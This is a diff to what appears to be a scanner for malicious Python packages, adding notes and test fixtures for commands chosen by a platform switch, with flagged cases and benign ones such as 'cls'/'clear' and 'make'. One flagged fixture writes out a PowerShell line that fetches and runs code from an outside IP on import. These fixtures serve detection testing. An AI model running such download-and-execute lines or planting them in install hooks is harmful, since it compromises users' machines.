@@ -9,6 +9,8 @@ a string built by ``+`` or an f-string keeps its known head tries next.
   payload added as bytes (``P.encode() + x.encode()``): the same text runs.
 * A command list written with an unknown item into a variable (``c = ['bash', '-c', CMD,
   x]; run(c)``): it keeps its words, as ``LIST + x`` does (ADR 0153).
+* A platform switch: ``CMD if os.name == 'posix' else WIN``, ``CMDS[sys.platform]``,
+  ``CMDS.get(sys.platform)``: each string the value may be is read as run.
 * The payload or the command kept in a dict literal and looked up by a written key
   (``CONFIG = {'post_install': CMD}; run(CONFIG['post_install'], shell=True)``): a dict of
   written strings folds, so its entry is read as the string itself.
@@ -141,9 +143,49 @@ DENIED: dict[str, dict[str, str]] = {
     "command-in-a-dict-in-setup-py": on_install(
         "HOOKS = {'post': CURL}\nos.system(HOOKS['post'])\n"
     ),
+    # One of several strings: a platform switch.
+    "command-picked-by-platform-in-the-call": on_import(
+        "WIN = 'powershell -c iwr http://203.0.113.5/x | iex'\n"
+        "os.system(CURL if os.name == 'posix' else WIN)\n"
+    ),
+    "command-picked-by-platform-into-a-variable": on_import(
+        "cmd = CURL if sys.platform != 'win32' else 'ver'\nsubprocess.Popen(cmd, shell=True)\n"
+    ),
+    "payload-picked-by-version": on_import("exec(P if sys.version_info[0] >= 3 else 'pass')\n"),
+    "command-looked-up-by-platform": on_import(
+        "CMDS = {'linux': CURL, 'darwin': CURL, 'win32': 'ver'}\nos.system(CMDS[sys.platform])\n"
+    ),
+    "command-got-by-platform": on_import(
+        "CMDS = {'linux': CURL, 'win32': 'ver'}\nos.system(CMDS.get(sys.platform))\n"
+    ),
+    "command-looked-up-by-platform-in-setup-py": on_install(
+        "HOOKS = {'linux': CURL, 'win32': 'ver'}\n"
+        "subprocess.call(HOOKS[sys.platform], shell=True)\n"
+    ),
 }
 
 ALLOWED: dict[str, dict[str, str]] = {
+    "which-or-where-picked-by-platform-in-setup-py": built(
+        "tool = 'where' if os.name == 'nt' else 'which'\n"
+        "have_cmake = subprocess.call([tool, 'cmake']) == 0\n"
+    ),
+    "screen-cleared-by-platform-when-called": init(
+        "import os\ndef clear():\n    os.system('cls' if os.name == 'nt' else 'clear')\n"
+    ),
+    "make-picked-by-platform-when-called": init(
+        "import subprocess, sys\n"
+        "CMDS = {'win32': 'nmake /f Makefile.win', 'linux': 'make', 'darwin': 'make'}\n"
+        "def build():\n    subprocess.check_call(CMDS[sys.platform], shell=True)\n"
+    ),
+    "make-picked-by-platform-in-setup-py": built(
+        "CMDS = {'win32': 'cmake --build build --config Release', 'linux': 'make -C src'}\n"
+        "subprocess.check_call(CMDS.get(sys.platform), shell=True)\n"
+    ),
+    "reraise-picked-by-version-and-exec-d-on-import": init(
+        "import sys\nexec('def reraise(tp, value, tb=None):\\n    raise tp, value, tb\\n'"
+        " if sys.version_info[0] == 2 else"
+        " 'def reraise(tp, value, tb=None):\\n    raise value.with_traceback(tb)\\n')\n"
+    ),
     "compiler-command-joined-with-flags-in-setup-py": built(
         "CC = 'cc'\nflags = os.environ.get('CFLAGS', '')\n"
         "subprocess.check_call(' '.join([CC, '-O2', flags, '-c', 'x.c']), shell=True)\n"
